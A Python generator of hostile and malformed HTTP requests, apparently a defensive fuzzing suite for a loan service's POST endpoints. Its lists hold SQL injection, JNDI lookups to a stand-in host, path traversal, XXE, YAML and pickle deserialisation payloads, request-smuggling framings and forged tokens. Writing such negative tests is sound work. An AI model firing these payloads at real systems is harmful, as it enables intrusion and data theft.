"""Requests that no well-meaning client sends, made for every POST operation of the contract.

A generator takes a route and gives cases; a case is the bytes of one request and what may come
back. A route is made from the OpenAPI document and its example alone, so that a new one is covered
without an edit here. Everything private that is sent is marked, so that it can be looked for.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from itertools import cycle
from typing import Any

# Settings with which no case is refused for being one of many.
NO_LIMITS = {f"LOANSVC_{name}": "999999" for name in ("RATE_LIMIT", "PROBING_LIMIT", "BATCH_QUEUE")}
NDJSON = "application/x-ndjson"
PERSON = "340521198812304813"  # an ID number that must not come back
NAME = "Zhangsanfeng张三丰"  # a person's name that must not come back
CANARY = "Q7canaryQ7"  # anything else that was sent and must not come back
PRIVATE = (PERSON[:17], "Zhangsanfeng", "张三丰", CANARY)
TAKEN = frozenset({200, 201, 202, 409})  # 409: read, and found to contradict what is recorded
OF_ITS_OWN = ("application_id", "reference")  # what makes a document another one

Document = dict[str, Any]
Place = tuple[str | int, ...]


@dataclass(frozen=True)
class Route:
    """A POST operation: where it is, with which key, and a good document for it."""

    template: str
    path: str
    media_type: str
    key: str
    example: Document
    reads: str = "a document"  # or rows, which are refused one by one, or nothing

    def document(self, name: str) -> Document:
        """The good document, made another one than all before."""
        own = {key: f"{name}"[:64] for key in OF_ITS_OWN if key in self.example}
        return copy.deepcopy(self.example) | own

    def request(
        self, body: bytes, *headers: str, path: str | None = None, key: str | None = None,
        media_type: str | None = None, length: bool = True, method: str = "POST",
    ) -> bytes:  # fmt: skip
        """The bytes of one request; `key` and `media_type` may be another one or "" for none."""
        bearer = self.key if key is None else key
        kind = self.media_type if media_type is None else media_type
        lines = [
            f"{method} {self.path if path is None else path} HTTP/1.1", "Host: loansvc",
            "Connection: close",
            *([f"Content-Type: {kind}"] if kind else []),
            *([f"Authorization: Bearer {bearer}"] if bearer else []),
            *([f"Content-Length: {len(body)}"] if length else []),
            *headers,
        ]  # fmt: skip
        return "\r\n".join([*lines, "", ""]).encode("utf-8", "surrogatepass") + body


@dataclass(frozen=True)
class Case:
    """One request. `refused`: it must not be taken; `silent`: closing without a word is an answer.

    `limited`: it may be told to come back later, since it is one try too many.
    """

    name: str
    sent: bytes
    refused: bool = True
    silent: bool = False
    limited: bool = False


def routes_of(
    contract: Mapping[str, Any], *, key: str, values: Iterator[Mapping[str, str]]
) -> list[Route]:
    """Every POST operation, its path filled with the next of `values`; it must have an example."""
    found = []
    for template, methods in contract["paths"].items():
        if "post" not in methods:
            continue
        content: dict[str, Any] = methods["post"].get("requestBody", {}).get("content", {})
        nothing: tuple[str, dict[str, Any]] = ("application/json", {})
        media_type, body = next(iter(content.items()), nothing)
        examples = [e["value"] for e in body.get("examples", {}).values()]
        if media_type == NDJSON:
            examples = [json.loads(line) for text in examples for line in text.splitlines()]
        assert examples or not content, f"POST {template} has no example in the contract"
        found.append(
            Route(
                template=template,
                path=template.format_map(next(values)),
                media_type=media_type,
                key=key,
                example=examples[0] if examples else {},
                reads="nothing"
                if not content
                else "rows"
                if media_type == NDJSON
                else "a document",
            )
        )
    return found


def leaves(value: Any, place: Place = ()) -> Iterator[tuple[Place, Any]]:
    """Every value of a document that is no object or list, with its place."""
    if isinstance(value, dict | list):
        for key, part in value.items() if isinstance(value, dict) else enumerate(value):
            yield from leaves(part, (*place, key))
    else:
        yield place, value


def containers(value: Any, place: Place = ()) -> Iterator[Place]:
    """The place of every object and list of a document."""
    if isinstance(value, dict | list):
        yield place
        for key, part in value.items() if isinstance(value, dict) else enumerate(value):
            yield from containers(part, (*place, key))


def with_raw(document: Document, place: Place, raw: str) -> bytes:
    """The document as JSON with these very characters at a place."""
    if not place:
        return raw.encode("utf-8", "surrogatepass")
    changed = copy.deepcopy(document)
    inner: Any = changed
    for step in place[:-1]:
        inner = inner[step]
    inner[place[-1]] = "@@here@@"
    text = json.dumps(changed, ensure_ascii=False).replace('"@@here@@"', raw)
    return text.encode("utf-8", "surrogatepass")


def shown(place: Place) -> str:
    return "/".join(map(str, place)) or "whole"


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


# --- values ---------------------------------------------------------------------------------------

# At a number: never a whole number in range as JSON writes it.
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1e999999999", "1.5", "1.0", "1e2", "-1",
    "-0.0", "01", "+1", ".5", "1.", "0x10", "1_000", "１０", "٣", "1,000", "9" * 20, "9" * 4301,
    "9" * 20_000, "9223372036854775808", "-9223372036854775809", "18446744073709551616",
    "99999999999999999", "0." + "1" * 5000, "1e-999999", '"5"', '"５"', "true", "²", "½", "1n",
    "--1", "1e", "1e+", "Inf", "nan", "None", "undefined", "0b1", "0o7", "1 000",
)  # fmt: skip
DATES = (
    "2026-02-30", "2025-02-29", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01",
    "2026-13-01", "2026-00-10", "20260101", "2026-W01-1", "2026-1-1", "2026-01-01T00:00:00",
    "2026-01-01Z", "2026-01-01+08:00", "２０２６-01-01", "٢٠٢٦-01-01", "2026/01/01", "01.01.2026",
    " 2026-01-01", "2026-01-01 ", "2026-01-01\n", "2026-01-01\u200b", "2026‐01‐01", "-2026-01-01",
    "+2026-01-01", "1949-12-31", "2026-01-01\x00", "today", "now()", "", CANARY, PERSON,
)  # fmt: skip
# Texts that are hard to handle; a field of free text may take some of them.
TEXTS = (
    "", " ", "\x00", "a\x00b", "a\nb", "a\r\nSet-Cookie: x=1", "a\tb", "\x1b[31mred", "\x7f", "\x85",
    "\u2028", "\u2029", "\u200b", "\u200d", "\u202e" + "gpj.exe", "\u2066x\u2069", "\ufeff", "\ufffe",
    "\uffff", "\U0010ffff", "\ue000", "e\u0301" * 40, "a" + "\u0300" * 500, "\U00020bb7野家",
    "·", "ﬀ", "Å", "ｆｕｌｌ", "а" * 12, "😀" * 64, "＝1+1", "=1+1", "@SUM(1)", "+1", "-1", "\t=1",
    "' OR 1=1 --", "\"; DROP TABLE entry; --", "1; SELECT pg_sleep(9)", "${jndi:ldap://x/y}",
    "{{7*7}}", "%s%s%s%n", "%00", "../../../etc/passwd", "<script>alert(1)</script>", "`id`",
    "$(id)", "|id", "a" * 65, "a" * 5000, "A" * 60_000, "(a+)+$" + "a" * 100 + "!", CANARY, PERSON,
    NAME, "null", "true", "[]", "{}", "__proto__", "constructor", "__class__",
)  # fmt: skip
WRONG_TYPES = ("[]", "{}", '""', "true", "-7", "1.5", f'["{PERSON}"]', f'{{"{NAME}": "{PERSON}"}}')
IDS = (
    PERSON[:-1] + "9", PERSON + "1", PERSON[:17], PERSON[:15], PERSON.lower() + " ",
    "３４０５２１１９８８１２３０４８１３", "34052119880230481X", "340521188001014813",
    "340521299912314813", "34052119881230481x", "00000000000000000O", "A" * 18, "340521198812304813\n",
    "\u200b" + PERSON, " " + PERSON, "٣٤٠٥٢١١٩٨٨١٢٣٠٤٨١٣", "-40521198812304813", "1e17", "²" * 18,
    "340521498000", "340521999999", "000000000000", "3405211022", "92340521MA2N00022I",
    "92340521MA2N000220", "9" * 18, "", "A0412; --", "Z99", "A00000", "\u0410" + "0412",
)  # fmt: skip


# --- generators: JSON -----------------------------------------------------------------------------


def wholes(route: Route) -> Iterator[Case]:
    """Bodies that are no document, or one that two readers could read in two ways."""
    good = json.dumps(route.document("whole")).encode()
    key = next(iter(route.example), "a")
    bodies: dict[str, bytes] = {
        "nothing": b"", "a space": b" ", "a zero byte": b"\x00", "half": good[: len(good) // 2],
        "all but the end": good[:-1], "twice": good + good, "more after": good + b"x",
        "zero after": good + b"\x00", "a list of it": b"[" + good + b"]", "null": b"null",
        "true": b"true", "a number": b"7", "a long number": PERSON.encode() * 2,
        "a text": json.dumps(PERSON).encode(), "an empty list": b"[]", "an empty object": b"{}",
        "single quotes": good.replace(b'"', b"'"), "a comma more": good[:-1] + b",}",
        "a comment": b"/*x*/" + good, "a line comment": b"//x\n" + good, "jsonp": b"f(" + good + b")",
        "utf-16": good.decode().encode("utf-16"), "utf-16-le": good.decode().encode("utf-16-le"),
        "utf-32": good.decode().encode("utf-32"), "a mark": b"\xef\xbb\xbf" + good,
        "latin-1": b'{"\xe9": 1}', "gbk": '{"姓名": 1}'.encode("gbk"), "overlong": b'{"\xc0\xaf": 1}',
        "surrogate bytes": b'{"\xed\xa0\x80": 1}', "above unicode": b'{"\xf4\x90\x80\x80": 1}',
        "cut character": b'{"a": "\xe5\xbc', "gzip": b"\x1f\x8b\x08" + bytes(60),
        "a key twice": b'{"%s": 1,' % key.encode() + good[1:],
        "a key twice, escaped": b'{"\\u%04x%s": 1,' % (ord(key[0]), key[1:].encode()) + good[1:],
        "half a pair in a key": b'{"\\ud800": 1,' + good[1:],
        "nested 9": b"[" * 9 + b"]" * 9, "nested 1100": b"[" * 1100 + b"]" * 1100,
        "nested 30000": b"[" * 30_000 + b"]" * 30_000, "open 60000": b"[" * 60_000,
        "objects 9000": b'{"a":' * 9000 + b"1" + b"}" * 9000, "close": b"]" * 60_000,
        "many keys": b"{" + b",".join(b'"k%d":1' % i for i in range(5000)) + b"}",
        "many unknown keys": b"{" + b",".join(b'"k%d":1' % i for i in range(4000)) + b"," + good[1:],
        "many numbers": b"[" + b"1," * 30_000 + b"1]", "escaped quotes": b'"' + b'\\"' * 32_000,
        "backslashes": b"\\" * 64_000, "minus": b"-" * 64_000, "a digit": b"1" * 64_000,
        "a float": b"0." + b"1" * 64_000, "exponents": b"[" + b"1e308," * 9_000 + b"1]",
        "escapes": b'["' + b"\\u0041" * 10_000 + b'"]', "bad escapes": b'["' + b"\\x41" * 10 + b'"]',
        "64 KiB and 1": good + b" " * (64 * 1024 + 1 - len(good)), "1 MB": good + b" " * 1_000_000,
        "zeros 70000": bytes(70_000), "form": b"a=1&b=2", "xml": b"<?xml version='1.0'?><a/>",
        "xxe": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "yaml": b"!!python/object/apply:os.system ['id']", "pickle": b"\x80\x04cos\nsystem\n.",
    }  # fmt: skip
    for name, body in bodies.items():
        may_be_empty = not route.example and name == "an empty object"
        yield Case(f"json: {name}", route.request(body), refused=not may_be_empty)


def shapes(route: Route) -> Iterator[Case]:
    """Wrong types at every place, fields too many at every object."""
    for place, _ in leaves(route.example):
        for raw in WRONG_TYPES:
            body = with_raw(route.document("shape"), place, raw)
            yield Case(f"type: {shown(place)} = {raw}", route.request(body), refused=False)
    for place in containers(route.example):
        for raw in ("null", "[]", "{}", "7", "[null]", "[[]]", quoted(PERSON), f"[{quoted(NAME)}]"):
            body = with_raw(route.document("shape"), place, raw)
            yield Case(f"object: {shown(place)} = {raw}", route.request(body), refused=False)
    for name in (NAME, PERSON, CANARY, "score", "outcome", "tenant_id", "__proto__", "", "a" * 5000,
                 "\x00", "\u202e", "'; --", "/a~1b", "client", "override", "editions "):  # fmt: skip
        document = route.document("extra") | {name: PERSON}
        yield Case(f"field too many: {name[:20]!r}", route.request(json.dumps(document).encode()))


def numbers(route: Route) -> Iterator[Case]:
    """Numbers that are none, or of another spelling, at every number in turn."""
    places = [
        p
        for p, v in leaves(route.example)
        if isinstance(v, int) and v is not True and v is not False
    ]
    for raw, place in zip(NUMBERS, cycle(places), strict=False):
        body = with_raw(route.document("number"), place, raw)
        yield Case(f"number: {shown(place)} = {raw[:20]}", route.request(body))


def dates(route: Route) -> Iterator[Case]:
    """Days that are none, at every day in turn."""
    places = [p for p, v in leaves(route.example) if is_day(v)]
    for text, place in zip(DATES, cycle(places), strict=False):
        body = with_raw(route.document("day"), place, quoted(text))
        refused = text != "9999-12-31"  # how some write "without end"
        yield Case(f"date: {shown(place)} = {text[:20]!r}", route.request(body), refused=refused)


def texts(route: Route) -> Iterator[Case]:
    """Unicode, control characters, injections and lengths, at every text in turn and as a key."""
    places = [p for p, v in leaves(route.example) if isinstance(v, str) and p[-1] not in OF_ITS_OWN]
    for i, text in enumerate(TEXTS):
        for place in (places[i % len(places)], places[(i * 7 + 3) % len(places)]) if places else ():
            body = with_raw(route.document(f"text-{i}"), place, quoted(text))
            yield Case(f"text: {shown(place)} = {text[:12]!r}", route.request(body), refused=False)
    for raw in (
        r'"\ud800"',
        r'"\udfff\ud800"',
        r'"a\udc00"',
        '"\n"',
        '"\x01"',
        r'"\u0000"',
        r'"\x"',
    ):
        for place in places[:3]:
            body = with_raw(route.document("text"), place, raw)
            yield Case(f"text: {shown(place)} = {raw!r}", route.request(body))


def ids(route: Route) -> Iterator[Case]:
    """ID numbers, codes and serial numbers that are none, wherever the document has such."""
    coded = ("id_number", "village_code", "uscc", "industry")
    for place, _ in leaves(route.example):
        if place[-1] not in coded:
            continue
        for text in IDS:
            body = with_raw(route.document("id"), place, quoted(text))
            yield Case(f"id: {place[-1]} = {text[:20]!r}", route.request(body))
    if "application_id" in route.example:
        for text in (
            "",
            " ",
            "a b",
            "a/b",
            "ä",
            "a" * 65,
            "a\n",
            "\x00",
            "．",
            PERSON + " ",
            NAME,
            "%41",
        ):
            body = with_raw(route.document("id"), ("application_id",), quoted(text))
            yield Case(f"id: application_id = {text[:20]!r}", route.request(body))


def is_day(value: Any) -> bool:
    return isinstance(value, str) and len(value) == 10 and value[4] == value[7] == "-"


# --- generators: HTTP -----------------------------------------------------------------------------


def good_body(route: Route, name: str) -> bytes:
    return json.dumps(route.document(name)).encode()


def media_types(route: Route) -> Iterator[Case]:
    """Bodies declared as something else."""
    for i, kind in enumerate((
        "", "text/plain", "text/json", "application/x-www-form-urlencoded", "multipart/form-data",
        "multipart/form-data; boundary=x", "application/xml", "application/x-ndjson+json", "*/*",
        "application/*", "json", "application/json; charset=gbk", "application/json; charset=utf-16",
        "application/json; charset=utf-7", f"application/{CANARY}", "application/json, text/plain",
        "application/json\t;charset=latin-1", "application/problem+json", ";", "a" * 4000,
        "application/json; charset=" + "x" * 4000, "application/json;" + "a=b;" * 900,
    )):  # fmt: skip
        sent = route.request(good_body(route, f"type-{i}"), media_type=kind)
        yield Case(f"media type: {kind[:40]!r}", sent, refused="a=b" not in kind)


def headers(route: Route) -> Iterator[Case]:
    """Headers that are odd, long, many or dangerous."""
    body = good_body(route, "header")
    odd = {
        "a zero byte": "X-Odd: a\x00b", "a bare return": "X-Odd: a\rX-Two: b", "a bare newline": "X-Odd: a\nb",
        "a fold": "X-Odd: a\r\n b", "a control": "X-Odd: \x01\x02", "no colon": f"{CANARY}", "no name": ": x",
        "a space in the name": f"X {PERSON}: 1", "a space before the colon": "X-Odd : 1",
        "not ascii in the name": f"X-{NAME}: 1", "9 KB": f"X-Odd: {'a' * 9000}", "70 KB": f"X-Odd: {'a' * 70_000}",
        "200 headers": "\r\n".join(f"X-{i}: {i}" for i in range(200)),
        "a long name": f"{'X' * 9000}: 1", "a second type": "Content-Type: text/plain",
        "expect what is not": "Expect: 200-ok", "a second host": "Host: elsewhere",
    }  # fmt: skip
    mild = {
        "not ascii": f"X-Odd: {NAME}", "a forged script name": "SCRIPT_NAME: /elsewhere",
        "a forged prefix": "X-Forwarded-Prefix: /elsewhere", "a forged host": f"X-Forwarded-Host: {CANARY}",
        "a forged scheme": "X-Forwarded-Proto: https", "a forged address": "X-Forwarded-For: 127.0.0.1",
        "a forged method": "X-HTTP-Method-Override: DELETE", "a forged path": "X-Original-URL: /healthz",
        "underscores": "Content_Length: 1", "a request id": f"X-Request-Id: {PERSON} x",
        "a request id of a person": f"X-Request-Id: {NAME}", "a long request id": f"X-Request-Id: {'a' * 5000}",
        "a script as a request id": "X-Request-Id: <script>", "a cookie": f"Cookie: {CANARY}={PERSON}",
        "a referrer": f"Referer: https://x/{PERSON}", "an agent": f"User-Agent: {NAME}",
        "a range": "Range: bytes=0-99999999", "an old cache": "If-None-Match: *", "upgrade": "Upgrade: h2c",
        "accept nothing": "Accept: application/xml", "accept many": "Accept: " + "a/b," * 1500,
        "a language": f"Accept-Language: {CANARY}", "a trace": f"traceparent: {CANARY}",
        "a coding": "Accept-Encoding: gzip;q=1e400", "an origin": f"Origin: https://{CANARY}",
        "wait": "Prefer: wait=999999", "a token as a name": "Proxy: http://127.0.0.1:1",
        "a key twice": f"Idempotency-Key: {PERSON}", "trailers": "TE: trailers", "a date": "Date: never",
        "digest": f"Content-Digest: sha-256=:{CANARY}:",
    }  # fmt: skip
    for name, line in odd.items():
        yield Case(f"header: {name}", route.request(body, line), refused=False, silent=True)
    for i, (name, line) in enumerate(mild.items()):
        sent = route.request(good_body(route, f"mild-{i}"), line)
        yield Case(f"header: {name}", sent, refused=False)
    for coding in ("gzip", "deflate", "br", CANARY):
        sent = route.request(b"\x1f\x8b\x08\x00" + bytes(40), f"Content-Encoding: {coding}")
        yield Case(f"header: content in {coding}", sent)


def framing(route: Route) -> Iterator[Case]:
    """Bodies whose length is told wrongly, twice, or not at all; requests within requests."""
    body = good_body(route, "framing")
    marked = f"GET /{CANARY} HTTP/1.1\r\nHost: {PERSON}\r\n\r\n".encode()
    chunked = "Transfer-Encoding: chunked"
    whole = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
    told: dict[str, tuple[tuple[str, ...], bytes]] = {
        "length -1": (("Content-Length: -1",), body), "length +1": (("Content-Length: +1",), body),
        "length 1e2": (("Content-Length: 1e2",), body), "length 0x10": (("Content-Length: 0x10",), body),
        "length 1_0": (("Content-Length: 1_0",), body), "length of words": ((f"Content-Length: {CANARY}",), body),
        "length empty": (("Content-Length:",), body), "length ５": (("Content-Length: ５",), body),
        "length of 30 digits": (("Content-Length: " + "9" * 30,), body),
        "length of 5000 digits": (("Content-Length: " + "9" * 5000,), body),
        "length 1, 1": (("Content-Length: 1, 1",), body), "two lengths": (("Content-Length: 2", "Content-Length: 3"), body),
        "the same length twice": ((f"Content-Length: {len(body)}",) * 2, body),
        "length too short": ((f"Content-Length: {len(body) - 5}",), body),
        "length too long": ((f"Content-Length: {len(body) + 50}",), body),
        "length 0": (("Content-Length: 0",), body), "no length": ((), body),
        "length and chunks": (("Content-Length: 4", chunked), whole),
        "chunks and length": ((chunked, "Content-Length: 4"), whole),
        "chunked twice": ((chunked, chunked), whole), "chunked, chunked": (("Transfer-Encoding: chunked, chunked",), whole),
        "chunked in capitals": (("Transfer-Encoding: CHUNKED",), whole),
        "chunked with a tab": (("Transfer-Encoding:\tchunked",), whole),
        "xchunked": (("Transfer-Encoding: xchunked",), whole), "identity": (("Transfer-Encoding: identity",), body),
        "gzip, chunked": (("Transfer-Encoding: gzip, chunked",), whole),
        "a control before chunked": (("Transfer-Encoding: \x0bchunked",), whole),
        "a space before the colon": (("Transfer-Encoding : chunked",), whole),
        "no size": ((chunked,), b"\r\n" + body), "size zz": ((chunked,), b"zz\r\n" + body), "size -1": ((chunked,), b"-1\r\n" + body),
        "size +5": ((chunked,), b"+5\r\nabcde\r\n0\r\n\r\n"), "size 0x5": ((chunked,), b"0x5\r\nabcde\r\n0\r\n\r\n"),
        "size of 40 digits": ((chunked,), b"f" * 40 + b"\r\n" + body), "size of 70000 digits": ((chunked,), b"1" * 70_000),
        "a chunk cut short": ((chunked,), b"ffff\r\n" + body), "a chunk too long": ((chunked,), b"2\r\n{}" + body),
        "no last chunk": ((chunked,), whole[:-5]), "newlines alone": ((chunked,), whole.replace(b"\r\n", b"\n")),
        "a long extension": ((chunked,), b"2;" + b"a" * 70_000 + b"\r\n{}\r\n0\r\n\r\n"),
        "a marked extension": ((chunked,), b"2;" + PERSON.encode() + b"\r\n{}\r\n0\r\n\r\n"),
        "trailers": ((chunked,), whole[:-2] + f"X: {PERSON}\r\n\r\n".encode()),
        "a bad trailer": ((chunked,), whole[:-2] + f"{PERSON}\r\n\r\n".encode()),
        "many trailers": ((chunked,), whole[:-2] + b"X: y\r\n" * 5000 + b"\r\n"),
        "one byte chunks": ((chunked,), b"1\r\n \r\n" * 20_000 + b"0\r\n\r\n"),
        "80 KB in chunks": ((chunked,), (b"4000\r\n" + b" " * 0x4000 + b"\r\n") * 5 + b"0\r\n\r\n"),
        "a request in the body": ((f"Content-Length: {len(body)}",), body + marked),
        "a request behind chunks": ((chunked,), whole + marked),
        "a request behind length 0": (("Content-Length: 0",), marked),
        "wait for go": (("Expect: 100-continue", f"Content-Length: {len(body)}"), body),
    }  # fmt: skip
    for name, (lines, sent) in told.items():
        whole_request = route.request(b"", *lines, length=False) + sent
        yield Case(f"framing: {name}", whole_request, refused=False, silent=True)


def request_lines(route: Route) -> Iterator[Case]:
    """First lines that are none."""
    rest = b"\r\nHost: x\r\nConnection: close\r\n\r\n"
    path = route.path.encode()
    lines = {
        "nothing": b"", "a newline": b"\r\n\r\n", "a number": PERSON.encode(), "one word": b"POST",
        "no version": b"POST " + path, "version 9.9": b"POST " + path + b" HTTP/9.9",
        "version 0.9": b"POST " + path + b" HTTP/0.9", "version 1.0": b"POST " + path + b" HTTP/1.0",
        "version 2.0": b"PRI * HTTP/2.0", "version 1.１": b"POST " + path + " HTTP/1.１".encode(),
        "lower case": b"post " + path + b" HTTP/1.1", "two spaces": b"POST  " + path + b" HTTP/1.1",
        "a tab": b"POST\t" + path + b"\tHTTP/1.1", "a zero byte": b"POST " + path + b"\x00 HTTP/1.1",
        "a long method": b"P" * 5000 + b" / HTTP/1.1", "a marked method": CANARY.encode() + b" / HTTP/1.1",
        "a space in the path": b"POST " + path + b" " + PERSON.encode() + b" HTTP/1.1",
        "a long path": b"POST /" + PERSON.encode() * 1000 + b" HTTP/1.1", "tls": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        "proxy": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2", "proxy 2": b"\r\n\r\n\x00\r\nQUIT\n!\x11\x00\x0c", "ssh": b"SSH-2.0-x",
        "redis": b"*1\r\n$4\r\nINFO", "not utf-8": b"POST /\xff\xfe HTTP/1.1", "an address": b"POST http://elsewhere" + path + b" HTTP/1.1",
        "a fragment": b"POST " + path + b"#x HTTP/1.1", "a star": b"POST * HTTP/1.1", "connect": b"CONNECT x:1 HTTP/1.1",
        "trace": b"TRACE " + path + b" HTTP/1.1", "a bare newline": b"POST " + path + b" HTTP/1.1\nX: 1",
    }  # fmt: skip
    for name, line in lines.items():
        yield Case(f"first line: {name}", line + rest, silent=True)


def methods(route: Route) -> Iterator[Case]:
    """Methods that the address does not take, or that write nothing."""
    for method in (
        "PUT",
        "PATCH",
        "DELETE",
        "OPTIONS",
        "TRACE",
        "CONNECT",
        "PROPFIND",
        "FOO",
        "POSTX",
        "Post",
    ):
        sent = route.request(good_body(route, "method"), method=method)
        yield Case(f"method: {method}", sent, silent=method == "CONNECT")


def paths(route: Route) -> Iterator[Case]:
    """Addresses beside the one that is meant."""
    good = route.path
    last = good.rsplit("/", 1)[-1]
    changed = (
        "/" + good, good.replace("/v1/", "//v1//"), good.upper(), good.replace("v1", "v0"), good.replace("v1", "v１"),
        good + "/" + CANARY, good + "/..", good + "/../../etc/passwd", good + "/%2e%2e/%2e%2e/healthz",
        good + "%00", good + "%0a", good + "%ff", good + "%F0%9F", good + ";a=b", good + "." + CANARY, good + ".json",
        good + "\\", good + "%5c", good + "%2f", good.replace(last, f"%{ord(last[0]):02x}{last[1:]}x"), good + "~", good + "%",
        good + "%zz", good + "%u0041", "/" + "a/" * 1500, "/" + "a" * 3500, "/v1/" + PERSON, "/v1/decisions/" + PERSON,
        f"/v1/decisions/{PERSON}/outcomes", f"/v1/decisions/{'a' * 65}/outcomes", "/v1/decisions/%00/outcomes",
        "/v1/decisions/%2e%2e/outcomes", "/v1/decisions/a%2fb/outcomes", "/.git/config", "/.env", "/admin", "/console", "/debug",
        "/metrics/" + CANARY, "/docs/assets/..%2f..%2f__init__.py", "/v1/decisions/%E5%BC%A0%E4%B8%89%E4%B8%B0/outcomes",
    )  # fmt: skip
    for path in changed:
        sent = route.request(good_body(route, "path"), path=path)
        same = path in ("/" + good, good + "%2f")  # other spellings of the same address
        yield Case(f"path: {path[:60]!r}", sent, refused=not same)


def queries(route: Route) -> Iterator[Case]:
    """Parameters that the address does not have."""
    for query in (
        f"?{PERSON}", f"?{CANARY}={PERSON}", "?" + "a=1&" * 800, "?a=%00", "?a=%ff", "?%", "?=", "?&&&", "?a[]=1&a[0]=2",
        "?limit=1e400", "?__debugger__=yes&cmd=1", f"?access_token={CANARY}", "?a=" + "b" * 3500, "?method=DELETE", "??", "?a=1#b",
        f"?application_id={PERSON}", "?a=%E5%BC%A0%E4%B8%89%E4%B8%B0", "?on=0001-01-01", "?a=${jndi:ldap://x}",
    ):  # fmt: skip
        sent = route.request(good_body(route, "query"), path=route.path + query)
        yield Case(f"query: {query[:30]!r}", sent, refused=False)


def keys(route: Route) -> Iterator[Case]:
    """Requests without a valid key. Last, since a service may lock out whoever tries many."""
    body, key = good_body(route, "key"), route.key
    prefix, key_id, secret = key.split("_", 2)
    tokens = (
        "", " ", "x", key[:-1], key + "x", key.upper(), key.lower(), f"{prefix}_{key_id}_{'A' * 43}", f"{prefix}_{'0' * 12}_{secret}",
        f"{prefix}_{key_id}_", f"{prefix}_{key_id}", f"{prefix}_{key_id}_{secret}\x00", f"{prefix}_{key_id}_{secret[:20]}", f"{key},{key}",
        f"{key} {key}", f"{prefix}_{PERSON}_{secret}", CANARY, NAME, "null", "undefined", "a" * 7000, "' OR 1=1 --", "../../demo-key",
        "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uL2Rldi9udWxsIn0.e30.x", "e30.e30.e30", "..",
    )  # fmt: skip
    for token in tokens:
        sent = route.request(body, f"Authorization: Bearer {token}", key="")
        yield Case(f"key: {token.replace(secret, '…')[:24]!r}", sent, silent="\x00" in token)
    for line in (
        "Authorization:", f"Authorization: {key}", f"Authorization: Basic {CANARY}", f"Authorization: Digest {CANARY}",
        f"Authorization: Bearer\t{key}x", f"Authorization: Bearer={key}", f"Authorization: Token {key}", f"X-Api-Key: {key}",
        f"Cookie: Authorization=Bearer {key}", f"Proxy-Authorization: Bearer {key}", f"Authorization: Negotiate {CANARY}",
        f'Authorization: Signature keyId="{key_id}",signature="{CANARY}"', f"Signature: sig1=:{CANARY}:",
        f'Signature-Input: sig1=("@method");keyid="{key_id}"', f"Signature-Input: {'(' * 5000}", f'Signature-Input: sig1=();created={"9" * 400}',
    ):  # fmt: skip
        yield Case(f"key: {line.replace(secret, '…')[:40]!r}", route.request(body, line, key=""))
    yield Case(
        "key: in the address", route.request(body, key="", path=f"{route.path}?access_token={key}")
    )
    for first, second in ((key, "x"), ("x", key), (key, key)):
        lines = [f"Authorization: Bearer {first}", f"Authorization: Bearer {second}"]
        yield Case("key: two headers", route.request(body, *lines, key=""), refused=first != second)


Generator = Callable[[Route], Iterator[Case]]
GENERATORS: tuple[Generator, ...] = (
    wholes, shapes, numbers, dates, texts, ids, media_types, headers, framing, request_lines, methods, paths, queries, keys,
)  # fmt: skip


# What is in a body is refused by its rows; where none is read, it is as if it were not there.
OF_BODIES = (wholes, shapes, numbers, dates, texts, ids, headers)
LENIENT = {"a document": (), "rows": OF_BODIES, "nothing": (*OF_BODIES, media_types)}


def cases_of(generator: Generator, route: Route) -> Iterator[Case]:
    """The cases of a generator, the route in their names."""
    lenient = generator in LENIENT[route.reads]
    for case in generator(route):
        name, refused = f"{route.template}: {case.name}", case.refused and not lenient
        yield replace(case, name=name, limited=generator is keys, refused=refused)
